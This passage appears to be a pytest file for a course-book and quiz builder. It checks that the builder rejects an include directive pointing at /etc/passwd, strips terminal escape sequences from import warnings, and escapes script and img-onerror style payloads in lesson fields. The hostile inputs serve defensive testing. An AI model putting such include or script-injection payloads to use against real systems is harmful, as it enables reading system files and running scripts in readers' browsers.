        "## Exercises", "```{include} /etc/passwd\n```\n\n## Exercises", 1), encoding="utf-8")
    with pytest.raises(BookError) as caught:
        assemble()
    assert any("{include}" in p for p in caught.value.problems)
    assert not (course / "book" / "lessons" / "lawfare-01.ipynb").exists()


def test_import_warnings_show_no_control_characters(tmp_path):
    src = tmp_path / "ctl.gift"
    src.write_text("::q\x1b[2J\x07one::Which one\x1b]0;owned\x07?{=right ~%50%half ~wrong}\n", encoding="utf-8")
    run = quiz("import", src, "-o", tmp_path / "ctl.yaml", cwd=tmp_path)
    assert "Traceback" not in run.both, run.both
    assert not RAW_CONTROL.search(run.both), repr(run.both)


def test_the_built_page_runs_no_script_from_lesson_fields(course):
    """The whole build: a lesson whose title, objectives, key terms and definitions carry
    script gives pages where the payload is text (escaped), in the page, its print header,
    its <title> and the glossary."""
    from quiz.book.build import build

    _hostile_lesson(course)
    result = build()
    html_dir = result.index.parent
    for page in (html_dir / "lessons" / "lawfare-01.html", html_dir / "glossary.html"):
        text = page.read_text(encoding="utf-8")
        assert "alert(" in text.replace("&quot;", '"'), page  # the payload is there, as text
        tags = re.findall(r".{0,80}(?:<script>alert|<img src=x).{0,20}", text)
        assert not tags, (page, tags)
